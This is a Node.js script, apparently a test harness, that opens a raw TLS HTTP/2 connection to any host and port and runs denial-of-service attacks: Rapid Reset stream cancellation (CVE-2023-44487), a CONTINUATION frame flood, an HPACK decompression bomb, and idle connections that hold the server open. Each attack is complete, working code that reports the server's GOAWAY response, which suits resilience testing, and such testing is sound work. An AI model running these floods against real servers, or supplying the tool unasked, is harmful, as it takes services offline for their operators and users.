// Hostile HTTP/2 clients, in real node (its TLS, our raw frames: node:http2's client would not send these).
// node h2attack.mjs <host> <port> <kind> <count>
//   reset:        HEADERS then RST_STREAM(CANCEL) on new streams, as fast as the socket takes them (CVE-2023-44487)
//   continuation: one HEADERS without END_HEADERS, then CONTINUATION frames of 16 KiB (a CONTINUATION flood)
//   silent:       TLS with ALPN h2, then nothing (not even the preface)
//   settings:     the preface and SETTINGS, then no request
//   hpack:        one header block that adds a 4000-byte field to the HPACK table, then refers to it
//                 `count` times (an HPACK bomb: a few KiB on the wire, count × 4 KB decoded)
// Prints one JSON line: { goaway: {last, code, debug} | null, closed, framesIn, sent, ms }.
import tls from "node:tls";

const [host, portText, kind, countText] = process.argv.slice(2);
const count = Number(countText);
const t0 = Date.now();
const frame = (type, flags, id, payload) => {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(id, 5);
  return Buffer.concat([h, payload]);
};
// RFC 7541 §5.1 integer with an N-bit prefix, first byte's high bits `high`.
const int = (v, bits, high) => {
  const max = (1 << bits) - 1;
  if (v < max) return [high | v];
  const out = [high | max];
  v -= max;
  while (v >= 128) {
    out.push((v & 127) | 128);
    v >>>= 7;
  }
  out.push(v);
  return out;
};
// :method GET, :path /, :scheme https (static table 2, 4, 7), :authority edge.test (literal, indexed name 1).
const REQUEST = Buffer.from([0x82, 0x84, 0x87, 0x41, 9, ...Buffer.from("edge.test")]);
const HEADERS = 1, RST_STREAM = 3, SETTINGS = 4, GOAWAY = 7, CONTINUATION = 9;
const END_STREAM = 1, END_HEADERS = 4;

let sent = 0;
let goaway = null;
let framesIn = 0;
let done = false;
const s = tls.connect({ host, port: Number(portText), ALPNProtocols: ["h2"], rejectUnauthorized: false, servername: "edge.test" }, () => {
  if (s.alpnProtocol !== "h2") return finish(`alpn ${s.alpnProtocol}`);
  if (kind === "silent") return;
  s.write(Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(SETTINGS, 0, 0, Buffer.alloc(0))]));
  if (kind === "reset") {
    let id = 1;
    const cancel = Buffer.from([0, 0, 0, 8]);
    const pump = () => {
      while (sent < count && !s.destroyed) {
        const batch = [];
        for (let i = 0; i < 100 && sent < count; i++, sent++, id += 2) batch.push(frame(HEADERS, END_HEADERS | END_STREAM, id, REQUEST), frame(RST_STREAM, 0, id, cancel));
        if (!s.write(Buffer.concat(batch))) return void s.once("drain", pump);
      }
    };
    pump();
  } else if (kind === "continuation") {
    s.write(frame(HEADERS, END_STREAM, 1, REQUEST));
    // Valid HPACK all along (literal fields without indexing, new names): only the size grows.
    const field = Buffer.from([0x00, ...int(5, 7, 0), ...Buffer.from("x-pad"), ...int(16000, 7, 0), ...Buffer.alloc(16000, 0x61)]);
    const pump = () => {
      while (sent < count && !s.destroyed) {
        sent++;
        if (!s.write(frame(CONTINUATION, 0, 1, field))) return void s.once("drain", pump);
      }
    };
    pump();
  } else if (kind === "hpack") {
    const name = Buffer.from("x-bomb");
    const value = Buffer.alloc(4000, 0x61);
    // Literal with incremental indexing (§6.2.1), new name: it becomes dynamic entry 62.
    const add = Buffer.from([0x40, ...int(name.length, 7, 0), ...name, ...int(value.length, 7, 0), ...value]);
    const refs = Buffer.alloc(Math.min(count, 16000), 0xbe); // indexed field 62 (§6.1), one byte each
    s.write(frame(HEADERS, END_HEADERS | END_STREAM, 1, Buffer.concat([REQUEST, add, refs])));
    sent = refs.length;
  }
});
let inbuf = Buffer.alloc(0);
s.on("data", (d) => {
  inbuf = Buffer.concat([inbuf, d]);
  while (inbuf.length >= 9) {
    const len = inbuf.readUIntBE(0, 3);
    if (inbuf.length < 9 + len) break;
    framesIn++;
    if (inbuf[3] === GOAWAY) {
      const p = inbuf.subarray(9, 9 + len);
      goaway = { last: p.readUInt32BE(0) & 0x7fffffff, code: p.readUInt32BE(4), debug: p.subarray(8).toString() };
    }
    inbuf = inbuf.subarray(9 + len);
  }
});
s.on("error", () => {});
s.on("close", () => finish());
setTimeout(() => finish("timeout"), Number(process.env.H2_ATTACK_MS ?? 15_000));
function finish(why) {
  if (done) return;
  done = true;
  console.log(JSON.stringify({ goaway, closed: why === undefined, why: why ?? null, framesIn, sent, ms: Date.now() - t0 }));
  s.destroy();
  process.exit(0);
}
